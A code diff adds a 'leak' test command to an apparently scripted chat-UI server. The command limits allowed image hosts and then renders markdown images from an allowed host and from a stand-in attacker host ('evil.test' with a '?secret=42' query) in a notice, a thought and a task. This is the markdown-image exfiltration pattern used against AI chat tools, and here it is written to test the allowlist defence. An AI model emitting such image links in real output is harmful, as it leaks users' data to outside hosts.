@@ -7,7 +7,9 @@ output; ``effect``  a client effect; ``widget``  a card with a server action but
 ``notice``  a warning notice; ``title <t>``  renames the thread; ``math``  TeX;
 ``cite``  a cited answer with a deeplink; ``lock`` / ``close``  change the thread status;
 ``ask``  a structured-input question; ``think``  a reasoning workflow with progress;
-``image``  a generated image with partial previews; anything else echoes.
+``image``  a generated image with partial previews; ``leak``  limits the thread's image
+hosts, then sends images from an allowed and a disallowed host in a notice, a thought
+and a task; anything else echoes.
 """
 
 from __future__ import annotations
@@ -42,6 +44,7 @@ from chatloom.types import (
     StructuredInputItem,
     StructuredInputMultipleChoice,
     StructuredInputMultipleChoiceOption,
+    TaskItem,
     ThoughtTask,
     ThreadItemAddedEvent,
     ThreadItemDoneEvent,
@@ -263,6 +266,36 @@ class ScriptedServer(ChatKitServer[Any]):
                 )
                 await asyncio.sleep(0.3)
             yield ThreadItemDoneEvent(item=picture.model_copy(update={"image": image}))
+        elif command == "leak":
+            thread.allowed_image_domains = ["img.allowed.test"]
+            yield ProgressUpdateEvent(text="Looking at pictures")  # the policy goes out first
+
+            def pictures(where: str) -> str:
+                return (
+                    f"![ok](https://img.allowed.test/{where}.png) "
+                    f"![leak](https://evil.test/{where}.png?secret=42)"
+                )
+
+            yield NoticeEvent(level="info", message=pictures("notice"))
+            thought = ThoughtTask(title="Thinking", content=pictures("thought"))
+            yield ThreadItemDoneEvent(
+                item=WorkflowItem(
+                    id=self._id(thread, context),
+                    thread_id=thread.id,
+                    created_at=datetime.now(),
+                    workflow=Workflow(type="reasoning", tasks=[thought], expanded=True),
+                )
+            )
+            yield ThreadItemDoneEvent(
+                item=TaskItem(
+                    id=self._id(thread, context),
+                    thread_id=thread.id,
+                    created_at=datetime.now(),
+                    task=CustomTask(title="Step", content=pictures("task")),
+                )
+            )
+            async for event in self.stream_text(thread, context, ["Pictures ", "shown."]):
+                yield event
         elif command == "notice":
             yield NoticeEvent(level="warning", message="Mind the **gap**.", title="Heads up")
         elif command == "title":
